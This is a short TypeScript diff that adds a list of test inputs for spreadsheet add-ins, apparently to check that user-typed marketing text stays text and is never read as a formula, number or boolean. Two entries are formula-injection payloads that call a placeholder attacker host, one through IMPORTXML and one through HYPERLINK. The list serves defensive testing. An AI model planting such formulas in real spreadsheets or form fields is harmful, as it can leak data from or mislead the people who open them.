@@ -109,3 +109,18 @@ export const TEXT_FIELDS = [
   'tasks[0].owner',
   'tasks[1].dependsOn',
 ] as const;
+
+/**
+ * Text a marketer may type that a host would take for a formula, a number or a boolean: it
+ * must stay text in every add-in.
+ */
+export const INJECTIONS = [
+  '=IMPORTXML("http://evil.example","//a")',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '=HYPERLINK("http://evil.example","click")',
+  "'quoted",
+  '0012',
+  'TRUE',
+];
